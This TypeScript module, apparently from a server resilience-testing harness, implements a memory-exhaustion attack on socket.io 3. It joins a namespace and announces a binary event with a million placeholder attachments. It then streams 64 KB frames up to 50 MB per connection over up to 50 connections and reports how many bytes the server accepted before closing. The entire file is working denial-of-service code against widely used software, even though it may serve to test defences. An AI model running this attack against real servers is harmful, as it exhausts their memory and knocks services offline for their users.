import { before, sleep, spread, type Attack } from '../attack-kit.ts';
import { connectionAfterConnection, type RawEngine } from '../raw-engine-socket.ts';

const NAMESPACE = '/are-you-a-robot';
/** A binary event announcing a million attachments, each to be buffered until all have come. */
const ANNOUNCE = `451000000-${NAMESPACE},["sync",{"_placeholder":true,"num":0}]`;
const FRAME = Buffer.alloc(64 * 1024);
const BYTES_PER_CONNECTION = 50 * 1024 * 1024;
const MAX_CONNECTIONS = 50;
/** Sending waits while this much is still queued on our side: the count is of bytes the server took. */
const MAX_QUEUED = 1024 * 1024;
const JOIN_WAIT_MS = 2000;
const CLOSE_WAIT_MS = 2000;

interface Attached {
  joined: boolean;
  written: number;
  closedByServer: boolean;
}

async function joined(engine: RawEngine): Promise<boolean> {
  const until = Date.now() + JOIN_WAIT_MS;
  while (engine.isOpen() && before(until)) {
    if (engine.texts.some((t) => t.startsWith(`40${NAMESPACE},{`))) return true;
    await sleep(10);
  }
  return false;
}

async function attach(engine: RawEngine, deadline: number): Promise<Attached> {
  engine.ws.send(`40${NAMESPACE},`);
  const inNamespace = await joined(engine);
  let sent = 0;
  if (engine.isOpen()) engine.ws.send(ANNOUNCE);
  while (engine.isOpen() && sent < BYTES_PER_CONNECTION && before(deadline)) {
    if (engine.ws.bufferedAmount > MAX_QUEUED) await sleep(5);
    else {
      engine.ws.send(FRAME);
      sent += FRAME.length;
      await new Promise((resolve) => setImmediate(resolve));
    }
  }
  const written = sent - engine.ws.bufferedAmount;
  const closedByServer = await Promise.race([engine.closed.then(() => true), sleep(CLOSE_WAIT_MS).then(() => false)]);
  engine.ws.terminate();
  return { joined: inNamespace, written, closedByServer };
}

const kb = (bytes: number) => Math.round(bytes / 1024);

/**
 * socket.io 3 buffered a binary packet's attachments below every check (278 MB held): joins
 * the namespace, announces a binary event, then streams 64 KB binary frames up to 50 MB per
 * connection, reconnecting when closed.
 */
export const binaryAttachments: Attack = async ({ port, deadline }) => {
  const { results, refusals } = await connectionAfterConnection(port, deadline, MAX_CONNECTIONS, (engine) => attach(engine, deadline));
  const closed = results.filter((r) => r.closedByServer);
  return [
    `connections opened: ${results.length}, joined the namespace on ${results.filter((r) => r.joined).length}; handshakes refused: ${refusals}`,
    `the server closed ${closed.length} of them; KB written before the close: ${spread(closed.map((r) => kb(r.written)))}`,
    `KB written on connections it did not close: ${spread(results.filter((r) => !r.closedByServer).map((r) => kb(r.written)))}`,
    `bytes written in all: ${(results.reduce((n, r) => n + r.written, 0) / 1024 / 1024).toFixed(1)} MB`,
  ];
};
